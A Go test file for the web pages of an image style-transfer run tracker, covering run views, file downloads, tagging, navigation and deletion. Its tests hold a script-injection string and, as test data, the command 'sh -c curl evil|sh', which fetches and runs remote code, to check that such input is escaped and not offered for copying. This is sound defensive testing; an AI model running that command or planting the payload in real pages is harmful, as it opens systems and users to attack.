package web

import (
	"html"
	"mime"
	"net/http"
	"net/url"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gouache-art/gouache/tracker"
)

func TestRun(t *testing.T) {
	store := realStore(t)
	h := handle(t, store, Options{})
	run := named(t, store, "whiskers stay")
	w := get(t, h, "/runs/"+run.ID, http.StatusOK)
	wantText(t, w, "<h1>whiskers stay</h1>", "fur has become waves", `src="/pictures/`+run.Picture+`"`, "content", "chelsea", "vgg16-hed",
		"--style-weight 50", "/runs?filter=style_weight&#43;%3D%3D&#43;50", `value="5" checked`, "step 90 of 90", "id=\"newer\"", "id=\"older\"")
	wantText(t, get(t, h, "/runs/"+run.ID+"?frame=0", http.StatusOK), "step 1 of 90")
	get(t, h, "/runs/zzzz", http.StatusNotFound)
	get(t, h, "/runs/%22", http.StatusBadRequest)
}

// Files are listed, and saved as they are: no browser shows what a run logged.
func TestFiles(t *testing.T) {
	store := emptyStore(t)
	h := handle(t, store, Options{})
	run, err := store.CreateRun(t.Context(), tracker.NewRun{})
	if err != nil {
		t.Fatal(err)
	}
	wantNoText(t, get(t, h, "/runs/"+run.ID, http.StatusOK), "<h2>Files</h2>")
	const name, text = `pages/<b>"größe" 100%.html?#x;y`, "<script>alert(1)</script>"
	file, err := store.AddFile(t.Context(), run.Claim(), tracker.NewFile{Name: name, Type: "text/html", Data: []byte(text)})
	if err != nil {
		t.Fatal(err)
	}
	w := get(t, h, "/runs/"+run.ID, http.StatusOK)
	wantText(t, w, "<h2>Files</h2>", html.EscapeString(name), "text/html")
	_, rest, _ := strings.Cut(w.Body.String(), `<ul class="files"><li><a href="`)
	address, _, _ := strings.Cut(rest, `"`)
	answer := get(t, h, html.UnescapeString(address), http.StatusOK)
	if answer.Body.String() != text {
		t.Errorf("%s has %q", address, answer.Body)
	}
	kind, values, err := mime.ParseMediaType(answer.Header().Get("Content-Disposition"))
	if err != nil || kind != "attachment" || values["filename"] != path.Base(name) {
		t.Errorf("%q, %v", answer.Header().Get("Content-Disposition"), err)
	}
	if got := answer.Header().Get("Content-Type"); got != "application/octet-stream" || answer.Header().Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("the type %q, %v", got, answer.Header())
	}
	get(t, h, "/runs/"+run.ID+"/files/"+file.Hash+"/other", http.StatusNotFound)
	get(t, h, "/runs/"+run.ID+"/files/"+strings.Repeat("0", 64)+"/"+url.PathEscape(name), http.StatusNotFound)
	if w := ask(h, http.MethodGet, "/pictures/"+file.Hash, nil, nil); w.Code < 400 || strings.Contains(w.Body.String(), "<script>alert") {
		t.Errorf("as a picture: %d %.200s", w.Code, w.Body)
	}
}

// A command is only offered to copy if it is the user's own.
func TestForeignCommand(t *testing.T) {
	store := emptyStore(t)
	h := handle(t, store, Options{})
	for _, c := range []struct {
		command  []string
		imported bool
		host     string // "" for this one
		copied   bool
	}{
		{[]string{"/usr/bin/gouache", "stylize", "--size", "64"}, false, "", true},
		{[]string{"python", "train.py"}, false, "", true},
		{[]string{"gouache", "stylize", "--size", "64"}, false, "a container", true},
		{[]string{"gouache", "sweep", "run", "a.yaml"}, false, "a container", true},
		{[]string{"gouache", "runs", "delete", "--yes", "1"}, false, "elsewhere", false},
		{[]string{"sh", "-c", "curl evil|sh"}, false, "elsewhere", false},
		{[]string{"gouache"}, false, "elsewhere", false},
		{[]string{"gouache", "stylize", "--size", "64"}, true, "", false},
		{[]string{"sh", "-c", "curl evil|sh"}, true, "", false},
	} {
		n := tracker.NewRun{Provenance: tracker.Provenance{Command: c.command, Imported: c.imported}}
		if c.host != "" {
			n.Process = tracker.Process{Host: c.host, PID: 1, Boot: "b", StartedAt: time.Now()}
		}
		run, err := store.CreateRun(t.Context(), n)
		if err != nil {
			t.Fatal(err)
		}
		w := get(t, h, "/runs/"+run.ID, http.StatusOK)
		text := w.Body.String()
		if strings.Contains(text, "data-copy") != c.copied || strings.Contains(text, "another store says: read it") == c.copied || !strings.Contains(text, html.EscapeString(n.Provenance.CommandLine())) {
			t.Errorf("%+v: %s", c, text[strings.Index(text, "What made it"):][:400])
		}
	}
}

func TestShortID(t *testing.T) {
	store := realStore(t)
	h := handle(t, store, Options{})
	run := named(t, store, "whiskers stay")
	for _, ref := range []string{run.ID[:11], strings.ToUpper(run.ID)} {
		if at := get(t, h, "/runs/"+ref+"?filter=size", http.StatusSeeOther).Header().Get("Location"); at != "/runs/"+run.ID+"?filter=size" {
			t.Errorf("%s leads to %q", ref, at)
		}
	}
	get(t, h, "/runs/1", http.StatusConflict) // begins all of them
}

// From one run to the next, all that a filter lets through are met.
func TestNeighbours(t *testing.T) {
	store := realStore(t)
	h := handle(t, store, Options{})
	filter := "experiment == woodcut || experiment == launch"
	s := runPages{h.frame}
	var met []string
	for at := named(t, store, "night launch").ID; at != ""; {
		v, err := s.newRunView(t.Context(), at, filter)
		if err != nil {
			t.Fatal(err)
		}
		met = append(met, v.Run.Name)
		if len(met) > 1 && !strings.Contains(v.Newer, "/runs/") {
			t.Errorf("no run is newer than %s", v.Run.Name)
		}
		next, _, _ := strings.Cut(strings.TrimPrefix(v.Older, "/runs/"), "?")
		at = next
	}
	failed := all(t, store)[4].Name
	if want := []string{"night launch", failed, "too much", "whiskers stay", "a light touch"}; !slices.Equal(met, want) {
		t.Errorf("met %q, want %q", met, want)
	}
	if v, err := s.newRunView(t.Context(), named(t, store, "too much").ID, "((("); err != nil || v.Newer != "" || v.Older != "" {
		t.Errorf("with a filter that makes no sense: %v", err)
	}
}

func TestUpdateRun(t *testing.T) {
	store := realStore(t)
	h := handle(t, store, Options{})
	run := named(t, store, "too much")
	at := "/runs/" + run.ID
	if to := post(t, h, at+"?filter=size+%3E+3", url.Values{"note": {"line\r\nand line\r\n"}}, http.StatusSeeOther).Header().Get("Location"); to != at+"?filter=size+%3E+3" {
		t.Errorf("the form leads to %q", to)
	}
	post(t, h, at, url.Values{"tag": {" a , b,,a"}}, http.StatusSeeOther)
	post(t, h, at, url.Values{"untag": {"a"}}, http.StatusSeeOther)
	post(t, h, at, url.Values{"rating": {"4"}}, http.StatusSeeOther)
	post(t, h, at, url.Values{"name": {" waves "}}, http.StatusSeeOther)
	got := named(t, store, "waves")
	if got.ID != run.ID || got.Note != "line\nand line" || !slices.Equal(got.Tags, []string{"b"}) || got.Rating != 4 {
		t.Errorf("it is now %+v", got)
	}
	for _, form := range []url.Values{{"rating": {"6"}}, {"rating": {"x"}}, {"name": {""}}, {"name": {"two\nlines"}}, {"tag": {strings.Repeat("x", 300)}}, {"note": {strings.Repeat("x", 70_000)}}} {
		post(t, h, at, form, http.StatusBadRequest)
	}
	post(t, h, "/runs/zzzz", url.Values{"rating": {"1"}}, http.StatusNotFound)
	if again := named(t, store, "waves"); again.Rating != 4 || again.Note != got.Note {
		t.Errorf("what was refused has changed it: %+v", again)
	}
}

func TestDelete(t *testing.T) {
	store := realStore(t)
	h := handle(t, store, Options{})
	gone, stays, running := named(t, store, "too much"), named(t, store, "whiskers stay"), named(t, store, "night launch")
	w := get(t, h, "/runs/delete?run="+gone.ID+"&run="+running.ID, http.StatusOK)
	wantText(t, w, "Delete 1 run?", "1 run is still running and will stay", "2 pictures or files stay", "MB", `<input type="hidden" name="run" value="`+gone.ID)
	wantNoText(t, w, `value="`+running.ID)
	wantText(t, get(t, h, "/runs/delete?run="+running.ID, http.StatusOK), "Nothing to delete")
	named(t, store, "too much") // asking deletes nothing
	post(t, h, "/runs/delete", url.Values{"run": {gone.ID, running.ID}}, http.StatusConflict)
	named(t, store, "too much") // all or none
	to := post(t, h, "/runs/delete", url.Values{"run": {gone.ID}}, http.StatusSeeOther).Header().Get("Location")
	wantText(t, get(t, h, to, http.StatusOK), "Deleted 1 run;")
	get(t, h, "/runs/"+gone.ID, http.StatusNotFound)
	get(t, h, "/runs/"+stays.ID, http.StatusOK)
	post(t, h, "/runs/delete", url.Values{}, http.StatusBadRequest)
	post(t, h, "/runs/delete", url.Values{"run": {gone.ID}}, http.StatusNotFound)
}

func TestSortPictures(t *testing.T) {
	picture := func(role string, step int64, hash string) tracker.Picture {
		return tracker.Picture{Role: role, Step: step, Hash: hash}
	}
	inputs, frames, others := sortPictures([]tracker.Picture{
		picture("content", 0, "c"), picture("mask", 0, "m"), picture("result", 9, "r"), picture("snapshot", 1, "s"), picture("snapshot", 9, "r"),
		picture("snapshot", 10, "t"), picture("style", 0, "y"),
	})
	hashes := func(list []tracker.Picture) string {
		text := ""
		for _, p := range list {
			text += p.Hash
		}
		return text
	}
	if hashes(inputs) != "cy" || hashes(frames) != "srt" || hashes(others) != "m" {
		t.Errorf("inputs %q, frames %q, others %q", hashes(inputs), hashes(frames), hashes(others))
	}
	if _, frames, others := sortPictures([]tracker.Picture{picture("epoch", 2, "b"), picture("epoch", 1, "a")}); hashes(frames) != "ab" || others != nil {
		t.Errorf("of other roles: frames %q, others %q", hashes(frames), hashes(others))
	}
}
